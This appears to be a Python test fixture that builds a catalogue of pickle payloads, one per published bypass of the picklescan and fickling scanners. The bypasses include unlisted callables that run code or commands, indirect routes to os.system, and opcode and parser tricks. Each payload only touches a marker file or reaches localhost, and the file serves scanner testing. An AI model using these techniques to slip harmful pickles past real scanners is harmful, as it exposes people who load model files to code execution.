"""One pickle for each way in which a published bypass got past picklescan or fickling, each as small and harmless.

The classes are those of their advisories, changelogs and deny lists (picklescan to 1.0.5, fickling to 0.1.12): what was
missing on the list, what reaches a listed name by another road, and what the scanner parsed otherwise than pickle.
Where it can, a payload makes the file ``touched`` in the current folder, so that a control shows that it is live.
"""

from __future__ import annotations

import struct
from collections.abc import Mapping

from formats.pickles.opcodes import called, listed, mapping, named, proto, restored, sequence, text, whole

TOUCH = text("touch touched")
CODE = text("open('touched','w').close()")
ROT13 = text("bcra('gbhpurq','j').pybfr()")
SYSTEM = named("os", "system")
OBJECTS = called(named("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
COMPILED = called(named("builtins", "compile"), CODE, CODE, text("exec"))
EMPTY_ARRAY = called(named("numpy._core.multiarray", "_reconstruct"), named("numpy", "ndarray"), b"K\0\x85", b"C\1b")
COMMAND = listed(text("touch"), text("touched"))
NESTED = proto(called(SYSTEM, TOUCH))


def _short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def _raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def _stack(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def _call(target: str, *arguments: bytes) -> bytes:
    """A call of ``module:name``. A method takes an object of its class first; None does where it is not looked at."""
    module, _, name = target.partition(":")
    return called((_stack if "." in name else named)(module, name), *arguments)


def _import(module: str) -> bytes:
    return _call("importlib:import_module", text(module))


_GO = TOUCH + b"\x85R"  # calls what is on the stack
_DONE = called(SYSTEM, TOUCH)
_ADDRESS = text("127.0.0.1") + whole(9) + b"\x86"
_TOUCHED, _URL = text("touched"), text("http://127.0.0.1:9/")
_WRITE = text("w")

# Names that were not on a list: what they call runs a command or code, writes a file, or goes to the network.
_CALLS: Mapping[str, tuple[bytes, ...]] = {
    "pty:spawn": (COMMAND,),
    "pip:main": (listed(text("--version")),),
    "pip._internal:main": (listed(text("--version")),),
    "ensurepip:_run_pip": (listed(text("--version")),),
    "venv:create": (_TOUCHED,),
    "runpy:_run_code": (CODE, b"}"),
    "runpy:run_module": (text("__hello__"),),
    "timeit:timeit": (CODE, text("pass"), named("time", "time"), whole(1)),
    "cProfile:run": (CODE,),
    "cProfile:runctx": (CODE, b"}", b"}"),
    "profile:run": (CODE,),
    "bdb:Bdb.run": (_call("bdb:Bdb"), CODE),
    "pdb:run": (CODE,),
    "trace:Trace.run": (_call("trace:Trace"), CODE),
    "trace:Trace.runctx": (_call("trace:Trace"), CODE),
    "doctest:debug_script": (CODE,),
    "code:interact": (text(""), named("posix", "getcwd")),
    "code:InteractiveInterpreter.runsource": (_call("code:InteractiveInterpreter"), CODE),
    "idlelib.run:Executive.runcode": (b"N", CODE),
    "idlelib.pyshell:ModifiedInterpreter.runcommand": (b"N", CODE),
    "idlelib.calltip:get_entity": (CODE,),
    "lib2to3.pgen2.grammar:Grammar.loads": (b"N", _raw(NESTED)),
    "lib2to3.pgen2.pgen:ParserGenerator.make_label": (b"N", b"N", CODE),
    "pydoc:pipepager": (text(""), TOUCH),
    "pydoc:locate": (text("xml.dom.pulldom"),),
    "imaplib:IMAP4_stream": (TOUCH,),
    "uuid:_get_command_stdout": (text("touch"), _TOUCHED),
    "_osx_support:_read_output": (TOUCH,),
    "_aix_support:_read_cmd_output": (TOUCH,),
    "_pyrepl.pager:pipe_pager": (text(""), TOUCH),
    "test.support.script_helper:assert_python_ok": (text("-c"), CODE),
    "asyncio.unix_events:_UnixSubprocessTransport._start": (b"N", COMMAND),
    "_posixsubprocess:fork_exec": (COMMAND,),
    "multiprocessing.util:spawnv_passfds": (_raw(b"/usr/bin/touch"), COMMAND, b")"),
    "posix:posix_spawn": (text("/usr/bin/touch"), COMMAND, b"}"),
    "nt:system": (TOUCH,),
    "commands:getoutput": (TOUCH,),
    "subprocess:getoutput": (TOUCH,),
    "webbrowser:get": (text("none such"),),
    "site:addsitedir": (text("."),),
    "atexit:register": (SYSTEM, TOUCH),
    "_xxsubinterpreters:run_string": (_call("_xxsubinterpreters:create"), CODE),
    "_interpreters:exec": (_call("_interpreters:create"), CODE),
    "marshal:loads": (_raw(b"N"),),
    "cloudpickle.cloudpickle:subimport": (text("os"),),
    "dill._dill:_import_module": (text("os"),),
    "joblib:load": (_TOUCHED,),
    "ctypes:CDLL": (b"N",),
    "gc:get_objects": (),
    "sys:setprofile": (SYSTEM,),
    "numpy.f2py.crackfortran:myeval": (CODE,),
    "numpy.f2py.crackfortran:getlincoef": (CODE, b"}"),
    "numpy.testing._private.utils:runstring": (CODE, b"}"),
    "torch.utils.collect_env:run": (TOUCH,),
    "torch.jit.unsupported_tensor_ops:execWrapper": (CODE, b"}", b"}"),
    "torch.utils.bottleneck.__main__:run_cprofile": (CODE, b"}"),
    "torch._dynamo.guards:GuardBuilder.get": (b"N", CODE),
    "torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression": (b"N", CODE, b")"),
    "torch._inductor.codecache:compile_file": (text(""), text(""), COMMAND),
    "torch.utils._config_module:ConfigModule.load_config": (b"N", _raw(NESTED)),
    "torch.storage:_load_from_bytes": (_raw(NESTED),),
    "torch.serialization:load": (_TOUCHED,),
    "builtins:breakpoint": (),
    "__builtin__:execfile": (_TOUCHED,),
    "builtins:help": (text("keywords"),),
    "logging:FileHandler": (_TOUCHED,),
    "_io:FileIO": (_TOUCHED, _WRITE),
    "io:open": (_TOUCHED, _WRITE),
    "distutils.file_util:write_file": (_TOUCHED, listed(text("x"))),
    "shutil:rmtree": (text("no such folder"),),
    "tempfile:mkdtemp": (text(""), _TOUCHED, text(".")),
    "urllib.request:urlopen": (_URL,),
    "ssl:get_server_certificate": (_ADDRESS,),
    "socket:create_connection": (_ADDRESS,),
    "requests.api:get": (_URL,),
    "aiohttp:request": (text("GET"), _URL),
}
UNLISTED: Mapping[str, bytes] = {
    **{target: _call(target, *arguments) for target, arguments in _CALLS.items()},
    "types.CodeType": _call("types:FunctionType", COMPILED, b"}") + b")R",
}

# Indirect ways to a listed name.
INDIRECT: Mapping[str, bytes] = {
    "operator.attrgetter": called(_call("operator:attrgetter", text("system")), _import("os")) + _GO,
    "operator.methodcaller": called(_call("operator:methodcaller", text("system"), TOUCH), _import("os")),
    "_operator.methodcaller": called(_call("_operator:methodcaller", text("system"), TOUCH), _import("os")),
    "operator.itemgetter": called(_call("_operator:itemgetter", text("os")), named("sys", "modules")),
    "pkgutil.resolve_name": called(_call("pkgutil:resolve_name", text("os:system")), TOUCH),
    "importlib": _call("builtins:getattr", _import("os"), text("system")) + _GO,
    "functools.partial": _call("functools:partial", SYSTEM, TOUCH) + b")R",
    "functools.reduce": called(
        _call("functools:reduce", named("builtins", "getattr"), listed(text("system")), _import("os")), TOUCH
    ),
    "builtins.map": _call("builtins:list", _call("builtins:map", SYSTEM, listed(TOUCH))),
    "a longer module": _stack("os.path", "os.system") + _GO,
    "another module's os": _stack("shutil", "os.system") + _GO,
    "a package that imports it": _stack("torch.serialization", "os.system") + _GO,
    "__builtins__ of a module": _stack("shutil", "__builtins__") + b"0" + _call("builtins:eval", CODE),
    "sys.modules": _call("sys:modules.get", text("os")) + text("system") + b"\x86" + b"0" + b"N",
    "a bound method": _call("builtins:str.__class__", text("x")),
    "__reduce_ex__": _call("builtins:object.__reduce_ex__", text("x"), whole(2)),
}

# What a scanner reads differently from the machine that runs it.
_OS, _SYSTEM = text("os"), text("system")
PARSED_OTHERWISE: Mapping[str, bytes] = {
    "STACK_GLOBAL out of the memo": _OS + b"q\1" + _SYSTEM + b"q\x0200h\1h\2\x93" + _GO,
    "STACK_GLOBAL out of MEMOIZE": b"\x8c\2os\x94\x8c\6system\x9400h\0h\1\x93" + _GO,
    "STACK_GLOBAL out of DUP": _OS + b"2" + _SYSTEM + b"\x93" + _GO,
    "a memo written twice": text("torch") + b"q\1" + _OS + b"q\x0100h\1" + _SYSTEM + b"\x93" + _GO,
    "LONG_BINPUT": _OS + b"r\xff\xff\0\x000j\xff\xff\0\0" + _SYSTEM + b"\x93" + _GO,
    "PUT and GET as text": b"S'os'\np7\n0g7\nS'system'\n\x93" + _GO,
    "short and long strings": _short("os") + b"\x8d" + struct.pack("<Q", 6) + b"system\x93" + _GO,
    "an escaped string": b"S'\\x6fs'\nV\\u0073ystem\n\x93" + _GO,
    "PROTO in the middle": b"\x80\x04" + SYSTEM + b"\x80\x00" + TOUCH + b"\x80\x05\x85R",
    "a FRAME around a part": b"\x95\x0b\0\0\0\0\0\0\0" + SYSTEM + _GO,
    "INST": b"(" + TOUCH + b"ios\nsystem\n",
    "OBJ": b"(" + SYSTEM + TOUCH + b"o",
    "NEWOBJ": SYSTEM + TOUCH + b"\x85\x81",
    "NEWOBJ_EX": SYSTEM + TOUCH + b"\x85}\x92",
    "EXT1": b"\x82\x7f" + _GO,
    "a result that is popped": _DONE + b"0N",
    "a result below a mark": b"(" + _DONE + b"1N",
    "a result that is used": _DONE + b"q\1h\1\x86",
    "a result as a state": named("collections", "OrderedDict") + b")R" + mapping({text("a"): _DONE}) + b"b",
    "__setstate__ by BUILD": restored("argparse", "Namespace", {"__setstate__": SYSTEM}) + TOUCH + b"b",
    "BUILD on a function": named("numpy", "size") + b"q\1}" + mapping({text("shape"): SYSTEM}) + b"\x86b" + _GO,
    "__setitem__ of another": _call("collections:defaultdict", SYSTEM) + TOUCH + b"Ns",
    "append of another": _call("collections:deque") + _DONE + b"a",
    "a broken end": _DONE + b"\xff",
    "a cut end": _DONE + b"X\xff\0\0\0",
    "an unknown opcode": _DONE + b"\x99",
    "a persistent id that is called": sequence(text("storage"), SYSTEM, text("0"), text("cpu"), whole(1))
    + b"Q"
    + _DONE,
    "a name over two lines": b"cos\nsystem\nS'touch touched'\n\x85R",
    "a pickle in a pickle": _call("pickle:loads", _raw(NESTED)),
    "a pickle in _pickle": _call("_pickle:loads", _raw(NESTED)),
    "a pickle in an array": EMPTY_ARRAY + sequence(b"K\1", b"K\1\x85", OBJECTS, b"\x89", listed(_DONE)) + b"b",
    "basichandlers": _call("torch.utils.data.datapipes.utils.decoder:basichandlers", text("pkl"), _raw(NESTED)),
    "_codecs.encode": _call("builtins:eval", _call("_codecs:encode", CODE, text("latin1"))),
    "rot13": _call("builtins:eval", _call("codecs:decode", ROT13, text("rot13"))),
}

BYPASSES: Mapping[str, bytes] = {**UNLISTED, **INDIRECT, **PARSED_OTHERWISE}
